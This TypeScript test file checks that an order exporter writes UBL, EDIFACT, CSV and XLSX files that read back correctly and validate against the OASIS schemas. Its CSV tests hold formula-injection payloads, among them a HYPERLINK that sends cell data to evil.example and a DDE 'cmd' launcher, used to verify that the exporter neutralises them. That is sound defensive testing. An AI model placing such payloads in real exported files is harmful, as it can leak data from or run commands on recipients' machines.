/** Orders as files: what other programs read in them, and what ours reads back. */
import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import { CFB, read, utils } from 'xlsx';
import { validateXML } from 'xmllint-wasm';
import { read as readEdi } from '../../../src/adapters/documents/readers/edi.reader.ts';
import { embeddedDocuments } from '../../../src/adapters/documents/xml/embedded.ts';
import { orderFiles } from '../../../src/adapters/order-files/order-files.ts';
import type { OrderFileLine, OrderForFile } from '../../../src/domain/sales-order/order-files.port.ts';
import { shownLine, shownOrder } from '../../../src/domain/shared/order-details-view.ts';
import { wholeLine, wholeOrder } from '../../support/whole-order.ts';

/** The schemas of OASIS, unchanged and under their notices: test/fixtures/ubl-2.1/README.md. */
const schemas = CFB.read(readFileSync(new URL('../../fixtures/ubl-2.1/ubl-2.1-order-xsd.zip', import.meta.url)), {
  type: 'buffer',
});
const schemasIn = (folder: string): readonly { readonly fileName: string; readonly contents: string }[] =>
  schemas.FullPaths.flatMap((path: string, at: number) => {
    const fileName = path.slice(path.indexOf('/') + 1);
    const content = schemas.FileIndex[at]?.content;
    const isSchema = fileName.startsWith(`${folder}/`) && fileName.endsWith('.xsd');
    return isSchema && content ? [{ fileName, contents: Buffer.from(content as Uint8Array).toString('utf8') }] : [];
  });

const line = {
  ...shownLine({}, 'C62'),
  line: 1,
  product_code: 'HB-8',
  product_name: 'Hex bolt M8',
  ean: '4012345001235',
  code: 'B-77',
  name: 'Bolt "M8" & nut <steel>',
  qty: 1000.5,
  unit: 'pcs',
  base_qty: null,
  base_unit: null,
  base_unit_code: null,
  price: 0.0125,
  price_source: null,
  discount: null,
  amount: 12.51,
  kind: 'product',
  charge: null,
} as const;
/** What is added, and what is taken off. */
const charge = (type: NonNullable<OrderFileLine['charge']>, name: string | null, amount: number): OrderFileLine => ({
  ...line,
  product_code: null,
  product_name: null,
  ean: null,
  code: null,
  unit: null,
  unit_code: null,
  qty: 1,
  name,
  price: amount,
  amount,
  kind: 'charge',
  charge: type,
});
const order: OrderForFile = {
  ...shownOrder({ deliveryDate: '2026-12-01', lines: [] }, true),
  sales_order: 'b7f7c1de-0f4e-4a3e-9d43-0c4a4f4f8a04',
  reference: 'SO-2026-000001',
  status: 'APPROVED',
  po_number: 'PO-4711',
  order_date: '2026-11-20',
  delivery_date: '2026-12-01',
  currency: 'EUR',
  total: 14.89,
  customer_code: 'C-100',
  customer_name: 'Åsa Berg & Söner',
  customer_tax_number: 'SE556012579001',
  customer_email: 'asa@buyer.example',
  warehouse_code: 'MAIN',
  warehouse_name: 'Main',
  lines: [line, { ...line, line: 2, product_code: null, product_name: null, ean: null, discount: 5, unit_code: null }],
  created_at: '2026-11-20T09:00:00.000Z',
};
const bare: OrderForFile = {
  ...order,
  po_number: null,
  order_date: null,
  delivery_date: null,
  currency: null,
  total: null,
  customer_code: null,
  customer_name: null,
  customer_tax_number: null,
  customer_email: null,
  warehouse_code: null,
  warehouse_name: null,
  lines: [],
  ...shownOrder({ deliveryDate: null, lines: [] }, false),
};

/** Everything that an order can say: a line in parts, and one for a day of its own. */
const whole: OrderForFile = {
  ...order,
  ...shownOrder({ ...wholeOrder, deliveryDate: '2026-12-11', lines: [] }, true),
  delivery_date: '2026-12-11',
  total: 31.28,
  lines: [
    { ...line, ...shownLine(wholeLine, 'C62') },
    { ...line, line: 2, ...shownLine({ position: '0020', requestedDelivery: { kind: 'day', until: '2026-12-09' } }, 'C62') },
  ],
};

/** A line in boxes of 100. */
const converted: OrderForFile = {
  ...order,
  lines: [
    {
      ...line,
      qty: 5,
      unit: 'box',
      unit_code: 'XBX',
      base_qty: 500,
      base_unit: 'pcs',
      base_unit_code: 'C62',
      price_source: 'price_list',
    },
  ],
};

const ubl = async (one: OrderForFile): Promise<Buffer> => (await orderFiles.write('ubl', [one], 'Seller GmbH')).bytes;
const asText = (value: number | null): string | null => (value === null ? null : String(value));

/** What is written, in the words of the reader. */
const expected = (one: OrderForFile) => ({
  number: one.po_number ?? one.reference,
  issueDate: one.order_date,
  deliveryDate: one.delivery_date,
  currency: one.currency,
  buyer: {
    name: one.customer_name,
    email: one.customer_email,
    phone: null,
    taxNumber: one.customer_tax_number,
    code: one.customer_code,
  },
  grand: asText(one.total),
  lines: one.lines.map(({ name, product_code, code, ean, qty, unit_code, price, amount }) => ({
    name,
    sellerCode: product_code,
    buyerCode: code === product_code ? null : code,
    globalCode: ean,
    qty: asText(qty),
    unit: unit_code,
    price: asText(price),
    amount: asText(amount),
    deliveryDate: null,
  })),
});
const readBack = (bytes: Buffer) => {
  const read = embeddedDocuments(bytes)[0];
  if (!read) throw new Error('it is not read as an order');
  const { number, issueDate, deliveryDate, currency, buyer, totals, lines, syntax, typeCode, seller } = read;
  expect({ syntax, typeCode, seller: seller.name }).to.deep.equal({ syntax: 'ubl', typeCode: '220', seller: 'Seller GmbH' });
  const core = lines.map(({ details: _, ...line }) => line);
  return { number, issueDate, deliveryDate, currency, buyer, grand: totals.grand, lines: core };
};

describe('an order as UBL 2.1', () => {
  it('is read back by our own reader as it was written', async () => {
    expect(readBack(await ubl(order))).to.deep.equal(expected(order));
  });

  it('is read back equal in every field that an order can have', async () => {
    const bytes = await ubl(whole);
    const read = embeddedDocuments(bytes)[0];
    const { totalIs: _, ...printed } = wholeOrder.totals;
    const contact = { ...wholeOrder.buyer.contact, email: order.customer_email };
    expect(read?.details).to.deep.equal({ ...wholeOrder, totals: printed, buyer: { contact } });
    expect(read?.deliveryDate).to.equal('2026-12-11');
    expect(read?.totals).to.deep.equal({ lines: '25.02', grand: '31.28' });
    expect(read?.lines.map(({ details }) => details)).to.deep.equal([
      wholeLine,
      {
        position: '0020',
        sellerItemId: 'HB-8',
        buyerItemId: 'B-77',
        gtin: '4012345001235',
        unitCode: 'C62',
        lineNet: '12.51',
        requestedDelivery: { kind: 'day', until: '2026-12-09' },
      },
    ]);
  });

  it('is read back with its freight and its discount, which are no lines', async () => {
    const charges = [charge('freight', 'Fracht', 7.5), charge('packaging', null, 2), charge('discount', '3 % off', -1.25)];
    const bytes = await ubl({ ...order, lines: [...order.lines, ...charges] });
    expect(readBack(bytes)).to.deep.equal(expected(order));
    expect(embeddedDocuments(bytes)[0]?.charges).to.deep.equal([
      { type: 'freight', name: 'Fracht', amount: '7.5' },
      { type: 'packaging', name: null, amount: '2' },
      { type: 'discount', name: '3 % off', amount: '-1.25' },
    ]);
    const text = bytes.toString();
    expect(text).to.include('<cbc:ChargeTotalAmount currencyID="EUR">9.5</cbc:ChargeTotalAmount>');
    expect(text).to.include('<cbc:AllowanceTotalAmount currencyID="EUR">1.25</cbc:AllowanceTotalAmount>');
  });

  it('is read back whatever its texts and numbers are', async () => {
    const text = fc
      .string({ unit: 'binary', minLength: 1, maxLength: 40 })
      .map((given) =>
        given
          .replaceAll(/[^\p{L}\p{N}\p{P}\p{S} ]/gu, 'x')
          .replace(/\s+/g, ' ')
          .trim(),
      )
      .filter((given) => given !== '');
    const amount = fc.integer({ min: 1, max: 10 ** 9 }).map((units) => units / 10_000);
    const anyLine = fc.record({ name: text, code: text, product_code: text, qty: amount, price: amount, amount });
    await fc.assert(
      fc.asyncProperty(text, text, fc.array(anyLine, { minLength: 1, maxLength: 5 }), amount, async (po, name, lines, total) => {
        const one = {
          ...order,
          po_number: po,
          customer_name: name,
          total,
          lines: lines.map((given, index) => ({ ...line, ...given, line: index + 1 })),
        };
        expect(readBack(await ubl(one))).to.deep.equal(expected(one));
      }),
      { numRuns: 100 },
    );
  });

  it('says beside the quantity that was ordered what it is in the base unit of the product', async () => {
    const text = (await ubl(converted)).toString();
    expect(text).to.include('<cbc:Quantity unitCode="XBX">5</cbc:Quantity>');
    expect(text).to.include(
      '<cac:AdditionalItemProperty><cbc:Name>BaseQuantity</cbc:Name><cbc:Value>500 pcs</cbc:Value><cbc:ValueQuantity unitCode="C62">500</cbc:ValueQuantity></cac:AdditionalItemProperty>',
    );
    expect((await ubl(order)).toString()).not.to.include('BaseQuantity');
  });

  it('is valid against the schema of OASIS, also where much is missing', async () => {
    // the one document type among the schemas; what it includes lies where it says
    const [main, common] = [schemasIn('maindoc')[0], schemasIn('common')];
    if (!main || common.length === 0) throw new Error('there are no schemas');
    const validate = async (contents: string) => {
      const xml = [{ fileName: 'order.xml', contents }];
      const schema = [{ fileName: 'UBL-Order-2.1.xsd', contents: main.contents.replaceAll('../common/', 'common/') }];
      return validateXML({ xml, schema, preload: common, initialMemoryPages: 1_024, maxMemoryPages: 8_192 });
    };
    const charged = { ...order, lines: [...order.lines, charge('freight', 'Fracht', 7.5), charge('discount', null, -1.25)] };
    for (const one of [order, whole, bare, { ...order, lines: [] }, { ...order, currency: null }, charged, converted]) {
      const { valid, errors } = await validate((await ubl(one)).toString());
      expect(errors.map(({ message }) => message)).to.deep.equal([]);
      expect(valid).to.equal(true);
    }
    const broken = (await ubl(order)).toString().replace('<cbc:IssueDate>2026-11-20</cbc:IssueDate>', '');
    expect((await validate(broken)).valid, 'the schema says no, too').to.equal(false);
  });

  it('of several orders is a zip with a file for each', async () => {
    const { bytes, mediaType, ending } = await orderFiles.write(
      'ubl',
      [order, { ...bare, reference: 'SO-2026-000002' }],
      'Seller GmbH',
    );
    expect({ mediaType, ending }).to.deep.equal({ mediaType: 'application/zip', ending: 'zip' });
    expect(bytes.subarray(0, 4).toString('latin1')).to.equal('PK\u0003\u0004');
    const { FullPaths } = CFB.read(bytes, { type: 'buffer' });
    expect(
      (FullPaths as readonly string[]).filter((name) => name.endsWith('.xml')).map((name) => name.split('/').at(-1)),
    ).to.deep.equal(['SO-2026-000001.xml', 'SO-2026-000002.xml']);
  });
});

describe('an order as EDIFACT ORDERS D.96A', () => {
  const written = async (orders: readonly OrderForFile[]) => orderFiles.write('edifact', orders, 'Seller: + GmbH?');
  const readBack = async (one: OrderForFile) => {
    const { embedded, warnings } = await readEdi((await written([one])).bytes);
    expect(warnings).to.deep.equal([]);
    const [document] = embedded ?? [];
    if (!document) throw new Error('it is not read as an order');
    return document;
  };

  it('is read back by our own reader as it was written', async () => {
    const document = await readBack(order);
    const { number, issueDate, deliveryDate, currency, buyer, totals, lines, seller } = document;
    expect(seller.name).to.equal('Seller: + GmbH?');
    const core = lines.map(({ details: _, ...line }) => line);
    // without a code of the unit there is no unit
    expect({ number, issueDate, deliveryDate, currency, buyer, grand: totals.grand, lines: core }).to.deep.equal(expected(order));
  });

  it('is read back equal in every field that an order can have and the message has a place for', async () => {
    const { details, lines, totals } = await readBack(whole);
    const { totalIs: _, ...printed } = wholeOrder.totals;
    const { partialDelivery: __, ...others } = wholeOrder;
    const contact = { ...wholeOrder.buyer.contact, email: order.customer_email };
    // a number has one agency, and a party one contact
    const { attention: ___, ...shipTo } = wholeOrder.shipTo;
    // a week has seven days
    const requestedDelivery = { ...wholeOrder.requestedDelivery, until: '2026-12-13' };
    expect(details).to.deep.equal({ ...others, shipTo, requestedDelivery, totals: printed, buyer: { contact } });
    expect(totals).to.deep.equal({ lines: '25.02', grand: '31.28' });
    expect(lines.map(({ details: ofLine }) => ofLine)).to.deep.equal([
      wholeLine,
      {
        position: '0020',
        sellerItemId: 'HB-8',
        buyerItemId: 'B-77',
        gtin: '4012345001235',
        unitCode: 'C62',
        lineNet: '12.51',
        requestedDelivery: { kind: 'day', until: '2026-12-09' },
      },
    ]);
  });

  it('names the address of the customer, has its charges, and nothing of what an order lacks', async () => {
    const shipTo = {
      ...shownOrder({ shipTo: { city: 'Kiel', addressId: 'a1b2' }, deliveryDate: null, lines: [] }, true).ship_to,
    };
    const charges = [charge('freight', 'Fracht', 7.5), charge('discount', '3 % off', -1.25)];
    const { bytes, mediaType, ending } = await written([{ ...order, ship_to: shipTo as never, lines: charges }]);
    expect({ mediaType, ending }).to.deep.equal({ mediaType: 'application/EDIFACT', ending: 'edi' });
    const segments = bytes.toString('latin1').split("'\r\n");
    expect(segments).to.include('NAD+DP+a1b2::91++++Kiel').and.to.include('CNT+2:0');
    expect(segments[0]).to.equal('UNB+UNOC:3+C-100+Seller?: ?+ GmbH??+261120:0000+SO2026000001');
    expect(segments.at(-3)).to.equal(`UNT+${segments.length - 3}+1`);
    expect((await readBack({ ...order, lines: charges })).charges).to.deep.equal([
      { type: 'other', name: 'Fracht', amount: '7.5' },
      { type: 'discount', name: '3 % off', amount: '-1.25' },
    ]);
    expect((await readBack({ ...bare, lines: [line] })).details).to.deep.equal({
      references: { ourOrderNumber: 'SO-2026-000001' },
    });
    const several = await written([order, { ...order, reference: 'SO-2026-000002' }]);
    expect(several).to.include({ mediaType: 'application/zip', ending: 'zip' });
  });
});

describe('orders as tables', () => {
  const tableOf = (bytes: Buffer) => {
    const book = read(bytes, { type: 'buffer', raw: true });
    const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
    return { sheet, rows: utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null }) };
  };

  it('as CSV have a row for each line, quoted where that is needed', async () => {
    const { bytes, mediaType } = await orderFiles.write('csv', [order, bare], 'Seller GmbH');
    expect(mediaType).to.equal('text/csv; charset=utf-8');
    const text = bytes.toString();
    expect(text.startsWith('\ufeffreference,status,po_number,')).to.equal(true);
    expect(text).to.include('"Bolt ""M8"" & nut <steel>"');
    expect(text.trimEnd().split('\r\n')).to.have.length(4);
    const { rows } = tableOf(bytes);
    expect(rows[0]).to.deep.include({
      reference: 'SO-2026-000001',
      customer_name: 'Åsa Berg & Söner',
      line: '1',
      qty: '1000.5',
      price: '0.0125',
    });
    expect(rows[2]).to.deep.include({ reference: 'SO-2026-000001', line: null, sales_order: bare.sales_order });
  });

  it('have the quantity in the base unit and where the price comes from behind all earlier columns', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const { rows } = tableOf((await orderFiles.write(format, [converted], 'Seller GmbH')).bytes);
      const { base_qty, base_unit, base_unit_code, price_source, unit } = rows[0] ?? {};
      expect([String(base_qty), base_unit, base_unit_code, price_source, unit], format).to.deep.equal([
        '500',
        'pcs',
        'C62',
        'price_list',
        'box',
      ]);
      expect(Object.keys(rows[0] ?? {}).slice(-6)).to.deep.equal([
        'base_qty',
        'base_unit',
        'base_unit_code',
        'price_source',
        'ship_to_address_id',
        'ship_to_source',
      ]);
    }
  });

  it('as CSV hold no formula, whatever a customer has written', async () => {
    const formulas = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1+1'];
    for (const formula of formulas) {
      const { bytes } = await orderFiles.write('csv', [{ ...order, customer_name: formula, lines: [] }], 'x');
      const [, row = ''] = bytes.toString().split('\r\n');
      expect(row, formula).to.match(/,(?:"?)'/);
      expect(row, formula).not.to.match(/(?:^|,)"?[=+\-@\t\r＝]/);
    }
    const { bytes } = await orderFiles.write('csv', [{ ...order, lines: [{ ...line, qty: -5 }] }], 'x');
    expect(bytes.toString(), 'a number is none').to.include(',-5,');
  });

  /** As programs read it whose cells end with another separator: those that know quotes, and those that cut at every separator. */
  const cellsBy = (separator: string, text: string): readonly string[] => {
    const sheet = read(text.replace(/^\ufeff/, ''), { type: 'string', FS: separator, cellText: false }).Sheets.Sheet1 ?? {};
    const cells = Object.entries(sheet).flatMap(([at, cell]) =>
      at.startsWith('!') ? [] : [cell.f === undefined ? String(cell.v ?? '') : `=${cell.f}`],
    );
    return [
      ...cells,
      ...text
        .split(/\r\n|\n|\r/)
        .flatMap((row) => row.split(separator))
        .map((cell) => cell.replace(/^[" ]+/, '')),
    ];
  };
  const risky = [
    "Widget;=cmd|' /C calc'!A0",
    'Widget;+1+1',
    'a;b;@SUM(A1)',
    'Widget; =HYPERLINK("http://evil.example")',
    'Widget;"=1+1"',
    'Widget\t=1+1',
    'Widget|-2+3',
    'Widget,=1+1',
    'two lines\n=1+1',
    'two lines\r\n;=1+1',
    'Widget;\t=1+1',
    'Widget;＝1+1',
    'Widget"x;"";=1+1',
  ];
  for (const separator of [';', '\t', '|'])
    it(`as CSV hold no formula for a program whose cells end with ${JSON.stringify(separator)}`, async () => {
      for (const name of risky) {
        const { bytes } = await orderFiles.write('csv', [{ ...order, customer_name: name, lines: [{ ...line, name }] }], 'x');
        for (const cell of cellsBy(separator, bytes.toString()))
          expect(cell, JSON.stringify(name)).not.to.match(/^[=+@＝]|^-(?![\d.]+$)/);
      }
    });

  it('as CSV quote every text that holds a separator of any kind, and leave what is none as it is', async () => {
    const written = async (name: string) => {
      const { bytes } = await orderFiles.write('csv', [{ ...order, customer_name: name, lines: [{ ...line, qty: -5 }] }], 'x');
      return bytes.toString();
    };
    for (const name of ['a;b', 'a\tb', 'a|b', 'a,b', 'a\nb', 'a\r\n\r\nb', 'Bolt; zinc', 'M8 - 20'])
      expect(await written(name), JSON.stringify(name)).to.include(name === 'M8 - 20' ? ',M8 - 20,' : `,"${name}",`);
    expect(await written('a;b')).to.include(',-5,');
  });

  it('as XLSX hold numbers as numbers and texts as texts, none of them a formula', async () => {
    const risky = { ...order, customer_name: '=1+1', po_number: '0815' };
    const { rows, sheet } = tableOf((await orderFiles.write('xlsx', [risky, bare], 'Seller GmbH')).bytes);
    expect(rows).to.have.length(3);
    expect(rows[0]).to.deep.include({
      customer_name: '=1+1',
      po_number: '0815',
      qty: 1000.5,
      total: 14.89,
      delivery_date: '2026-12-01',
    });
    for (const cell of Object.values(sheet)) expect(cell).not.to.have.property('f');
  });
});
